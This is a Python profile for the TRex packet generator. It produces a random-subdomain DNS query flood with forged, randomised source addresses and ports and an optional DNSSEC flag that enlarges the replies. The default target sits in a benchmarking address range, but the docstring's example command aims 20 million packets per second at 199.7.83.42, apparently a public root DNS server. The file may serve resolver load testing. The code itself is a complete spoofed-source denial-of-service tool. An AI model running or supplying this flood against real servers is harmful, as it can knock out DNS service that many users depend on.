# SPDX-License-Identifier: BSD-3-Clause
"""TRex, stateless: a random-subdomain flood of one label with forged sources.

    trex> start -f trex_flood.py -m 20mpps -d 60 -t server=199.7.83.42,dnssec_ok=1
    trex> stats -s

TRex counts what comes back and does not look into it; mangrove-surge does.
"""
import struct

from trex_stl_lib.api import (CTRexVmInsFixHwCs, Ether, IP, STLPktBuilder,
                              STLScVmRaw, STLStream, STLTXCont, STLVmFixChecksumHw, STLVmFlowVar,
                              STLVmWrFlowVar, UDP)

LABEL = 10  # letters
MESSAGE = 14 + 20 + 8  # offset in the frame
QNAME = MESSAGE + 12


def query(dnssec_ok):
    """An A query with room for a label, and an OPT if DO is wanted."""
    header = struct.pack('!6H', 0, 0, 1, 0, 0, 1 if dnssec_ok else 0)
    question = bytes([LABEL]) + b'x' * LABEL + b'\0' + struct.pack('!2H', 1, 1)
    return header + question + (struct.pack('!BHHIH', 0, 41, 1232, 0x8000, 0) if dnssec_ok else b'')


class Flood:
    def get_streams(self, direction=0, server='198.18.0.53', dnssec_ok=0, **kwargs):
        packet = (Ether() / IP(src='198.18.128.1', dst=server) / UDP(sport=1024, dport=53) /
                  query(int(dnssec_ok)))
        variables = [
            STLVmFlowVar(name='source', min_value='198.18.128.1', max_value='198.18.255.254',
                         size=4, op='random'),
            STLVmWrFlowVar(fv_name='source', pkt_offset='IP.src'),
            STLVmFlowVar(name='port', min_value=1024, max_value=65535, size=2, op='random'),
            STLVmWrFlowVar(fv_name='port', pkt_offset='UDP.sport'),
            STLVmFlowVar(name='id', min_value=0, max_value=65535, size=2, op='inc'),
            STLVmWrFlowVar(fv_name='id', pkt_offset=MESSAGE),
        ]
        for i in range(LABEL):
            variables += [
                STLVmFlowVar(name=f'letter{i}', min_value=ord('a'), max_value=ord('z'), size=1,
                             op='random'),
                STLVmWrFlowVar(fv_name=f'letter{i}', pkt_offset=QNAME + 1 + i),
            ]
        variables.append(STLVmFixChecksumHw(l3_offset='IP', l4_offset='UDP',
                                            l4_type=CTRexVmInsFixHwCs.L4_TYPE_UDP))
        return [STLStream(packet=STLPktBuilder(pkt=packet, vm=STLScVmRaw(variables)),
                          mode=STLTXCont(pps=1e6))]


def register():
    return Flood()
